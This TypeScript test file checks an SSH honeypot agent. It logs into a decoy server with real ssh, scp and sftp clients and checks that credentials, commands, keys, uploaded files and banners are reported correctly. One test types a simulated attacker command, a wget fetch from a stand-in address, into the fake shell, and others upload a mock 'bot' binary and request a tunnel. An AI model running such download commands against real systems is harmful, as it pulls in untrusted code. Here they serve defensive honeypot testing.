import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readSettings } from '../src/config/settings.ts';
import { type Agent, runAgent } from '../src/run-agent.ts';
import { OPTIONS, run } from './parts/openssh.ts';
import { type StandInService, startStandInService } from './parts/service.ts';
import { standInShell } from './parts/stand-in-shell.ts';

/** Handed out by a decoy, so that it opens at once. */
const CANARY = 'Zq3xW9rT5yU8iO2p';
/** Of an installation that opens root's account to this machine at the fourth guess; the client makes two at a time. */
const SEED = 'installation-1';
const QUIET = { info: () => undefined, warn: () => undefined };
const directory = mkdtempSync(join(tmpdir(), 'sundew-agent-'));

let service: StandInService;
let agent: Agent;
const port = () => String(agent.port);

beforeAll(async () => {
  service = await startStandInService();
  service.canaries.add(CANARY);
  writeFileSync(join(directory, 'seed'), SEED);
  const file = join(directory, 'agent.yaml');
  writeFileSync(file, 'honeypots: { ssh: { port: 0, host: 127.0.0.1 } }\nreporting: { flush_interval: 1s }\n');
  const env = {
    SERVICE_API_KEY: `wd_${'a'.repeat(40)}`,
    SERVICE_PROPERTY_ID: 'p',
    SERVICE_INGEST_URL: service.url,
    SERVICE_DATA_DIR: directory,
  };
  agent = await runAgent(
    readSettings(env, file),
    () => standInShell,
    QUIET,
    () => 0,
  );
});
afterAll(async () => {
  await agent.stop();
  await service.stop();
});

const ssh = (password: string, ...words: string[]) =>
  run('ssh', [...OPTIONS, '-p', port(), 'root@127.0.0.1', ...words], password);
const reported = (type: string) => service.records().filter((record) => record.type === type);

/** What the agent answers to bytes that are no handshake. */
function answerTo(bytes: string): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(Number(port()), '127.0.0.1', () => socket.write(bytes));
    let said = '';
    socket.on('data', (chunk) => {
      said += chunk.toString('latin1');
    });
    socket.on('end', () => socket.end());
    // A server that leaves bytes unread resets the connection, which comes as an error or not.
    socket.on('error', () => undefined);
    socket.on('close', () => resolve(said));
  });
}

describe('the client of OpenSSH', () => {
  it('is refused with a wrong password, which is reported', async () => {
    const { status, stderr } = await ssh('wrong horse', 'id');
    expect([status, stderr]).toEqual([
      255,
      expect.stringContaining('Permission denied (publickey,password,keyboard-interactive)'),
    ]);
    await expect
      .poll(() => reported('ssh_auth'))
      .toContainEqual(
        expect.objectContaining({
          ...{ username: 'root', password: 'wrong horse', success: false, source_ip: '127.0.0.1' },
          ...{ destination_port: agent.port, hassh: expect.stringMatching(/^[0-9a-f]{32}$/) },
          client_version: expect.stringMatching(/^SSH-2\.0-OpenSSH_/),
        }),
      );
  });

  it('runs a command, sees its output apart and its status, and the session is reported', async () => {
    expect(await ssh(CANARY, 'uname -a')).toEqual({ status: 0, stdout: 'root ran uname -a\n', stderr: '' });
    expect(await ssh(CANARY, 'fail')).toMatchObject({ status: 3, stdout: '', stderr: 'no\n' });
    await expect
      .poll(() => reported('ssh_session').map(({ commands }) => commands))
      .toEqual(expect.arrayContaining([['uname -a'], ['fail']]));
    expect(reported('ssh_session')[0]).toMatchObject({ username: 'root', password: CANARY });
  });

  it('has an interactive shell, whose terminal is recorded', async () => {
    const words = [...OPTIONS, '-tt', '-p', port(), 'root@127.0.0.1'];
    const { status, stdout } = await run('ssh', words, CANARY, 'wget http://192.0.2.9/x\rexit\r');
    expect([status, stdout]).toEqual([0, expect.stringContaining('heard wget http://192.0.2.9/x')]);
    const session = () => reported('ssh_session').find(({ downloads }) => downloads !== undefined);
    await expect.poll(session).toMatchObject({ downloads: ['http://192.0.2.9/x'] });
    const cast = gunzipSync(Buffer.from(session()?.recording ?? '', 'base64'))
      .toString()
      .trim()
      .split('\n');
    expect(JSON.parse(cast[0] ?? '')).toMatchObject({ version: 2 });
    expect(cast.slice(1).map((line) => JSON.parse(line)[1])).toEqual(expect.arrayContaining(['i', 'o']));
  });

  it('offers keys, which are reported and do not open', async () => {
    const key = join(directory, 'key');
    await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key], '');
    const words = [...OPTIONS, '-i', key, '-o', 'PreferredAuthentications=publickey', '-p', port(), 'git@127.0.0.1'];
    expect((await run('ssh', words, '')).status).toBe(255);
    const [, blob = ''] = readFileSync(`${key}.pub`, 'utf8').split(' ');
    const digest = createHash('sha256').update(Buffer.from(blob, 'base64')).digest('base64').replace(/=+$/, '');
    await expect
      .poll(() => reported('ssh_pubkey'))
      .toContainEqual(
        expect.objectContaining({
          username: 'git',
          metadata: { key_type: 'ssh-ed25519', key_fingerprint: `SHA256:${digest}` },
        }),
      );
  });

  it('asks for a tunnel in vain, and is noted', async () => {
    const words = [...OPTIONS, '-p', port(), '-W', '10.0.0.5:25', 'root@127.0.0.1'];
    expect((await run('ssh', words, CANARY)).status).toBe(255);
    const asked = () => reported('ssh_session').flatMap(({ commands }) => commands);
    await expect.poll(asked).toContain('# asked to forward to 10.0.0.5:25');
  });
});

describe('files', () => {
  const BYTES = Buffer.from('MZ not really a program\n'.repeat(5_000));
  const SHA256 = createHash('sha256').update(BYTES).digest('hex');
  const local = join(directory, 'bot');
  beforeAll(() => writeFileSync(local, BYTES));
  const captured = () => reported('ssh_session').flatMap(({ files = [] }) => files);

  it.each([
    ['scp of today', '/tmp/modern', ['-q']],
    ['scp -O, which most attackers speak', '/tmp/legacy', ['-q', '-O']],
  ])('%s brings one, which is captured', async (_name, path, options) => {
    const words = [...OPTIONS, ...options, '-P', port(), local, `root@127.0.0.1:${path}`];
    expect(await run('scp', words, CANARY)).toMatchObject({ status: 0, stderr: '' });
    await expect.poll(captured).toContainEqual({ path, bytes: BYTES.length, sha256: SHA256 });
  });

  it.each([[['-O']], [[]]])('scp %j takes one away', async (options) => {
    const target = join(directory, `taken${options.length}`);
    const words = [...OPTIONS, '-q', ...options, '-P', port(), 'root@127.0.0.1:/root/notes.txt', target];
    expect(await run('scp', words, CANARY)).toMatchObject({ status: 0, stderr: '' });
    expect(readFileSync(target, 'utf8')).toBe('remember the milk\n');
  });

  it('sftp lists, makes folders and says what is not there', async () => {
    const batch = 'ls /root\nmkdir /root/new\nls -l /root\nget /root/nothing\n';
    const words = [...OPTIONS, '-P', port(), 'root@127.0.0.1'];
    const { stdout, stderr } = await run('sftp', words, CANARY, batch);
    expect(stdout).toContain('notes.txt');
    expect(stdout).toMatch(/-rw-r--r--\s+\?\s+root\s+root\s+18 Nov 14\s+2023/);
    expect(stderr).toContain('not found');
  });
});

describe('what shows from outside', () => {
  const BANNER = 'SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n';

  it.each([
    ['HTTP', 'GET / HTTP/1.1\r\nHost: x\r\n\r\n', 'Invalid SSH identification string.\r\n'],
    ['junk', 'hello\n', 'Invalid SSH identification string.\r\n'],
    ['another protocol version', 'SSH-1.5-old\n', 'Protocol major versions differ.\r\n'],
  ])('is what sshd answers to %s', async (_name, bytes, words) => {
    expect(await answerTo(bytes)).toBe(BANNER + words);
  });

  it('is the offer of the chosen sshd, in its order, padded with zeros', async () => {
    const said = await new Promise<Buffer>((resolve, reject) => {
      const parts: Buffer[] = [];
      const socket = connect(Number(port()), '127.0.0.1', () => socket.write('SSH-2.0-Go\r\n'));
      socket.on('data', (part) => {
        parts.push(part);
        const all = Buffer.concat(parts).subarray(BANNER.length);
        if (all.length < 4 || all.length < 4 + all.readUInt32BE(0)) return;
        socket.destroy();
        resolve(all);
      });
      socket.on('error', reject);
    });
    const lists = said.toString('latin1');
    expect(lists).toContain(
      'curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,kex-strict-s-v00@openssh.com',
    );
    expect(lists).toContain('\0\0\0\x39rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256,ssh-ed25519');
    expect(lists).toContain('none,zlib@openssh.com');
    const padding = said[4] ?? 0;
    expect(said.subarray(said.length - padding).every((byte) => byte === 0)).toBe(true);
  });
});
